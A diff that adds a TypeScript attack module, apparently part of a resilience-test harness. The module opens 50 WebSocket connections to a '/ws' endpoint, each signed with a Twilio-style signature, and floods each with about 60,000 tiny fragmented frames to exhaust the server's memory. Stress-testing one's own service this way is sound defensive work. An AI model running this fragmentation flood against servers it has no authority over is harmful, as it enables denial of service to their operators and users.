@@ -1,0 +1,53 @@
+import { randomBytes } from "node:crypto"
+import { request } from "node:http"
+import type { Duplex } from "node:stream"
+import { type Attack, pause, repeatedly, sign, type Target } from "../Attack.ts"
+
+/** A masked frame of one byte that goes on; RFC 6455, section 5.2. */
+const fragment = (isFirst: boolean) => Buffer.from([isFirst ? 0x01 : 0x00, 0x81, 0, 0, 0, 0, 0x61])
+
+/** Thousands of frames of a byte in one write: what holds them costs many times what was sent. */
+const rest = Buffer.concat(Array.from({ length: 8000 }, () => fragment(false)))
+
+/** The connection behind an upgrade; `undefined` where it was refused. */
+const upgrade = ({ host, port }: Target, headers: Readonly<Record<string, string>>): Promise<Duplex | undefined> =>
+  new Promise((resolve) => {
+    const asked = request({
+      host,
+      port,
+      path: "/ws",
+      headers: {
+        ...headers,
+        connection: "Upgrade",
+        upgrade: "websocket",
+        "sec-websocket-version": "13",
+        "sec-websocket-key": randomBytes(16).toString("base64")
+      }
+    })
+    asked.on("upgrade", (_, socket) => resolve(socket.on("error", () => {}).resume()))
+    asked.on("response", (response) => resolve(void response.resume()))
+    asked.on("error", () => resolve(undefined))
+    asked.end()
+  })
+
+/** Twilio's own signature over the upgrade: one that was seen can be sent again. */
+export const fragments: Attack = {
+  name: "messages in tiny fragments",
+  strength: "50 WebSockets, 60,000 fragments each",
+  run: async (siege) => {
+    const url = `${siege.url.replace("http", "ws")}/ws`
+    let opened = 0
+    await repeatedly(siege, 50, async () => {
+      const raw = await upgrade(siege, { "x-twilio-signature": sign(siege.account.authToken, url) })
+      if (raw === undefined) return pause(20)
+      opened++
+      raw.write(fragment(true))
+      for (let round = 0; round < 7 && !raw.destroyed; round++) {
+        if (!raw.write(rest)) await new Promise((resolve) => raw.once("drain", resolve).once("close", resolve))
+      }
+      await pause(Math.min(500, siege.left()))
+      raw.destroy()
+    })
+    return `${opened} WebSockets`
+  }
+}
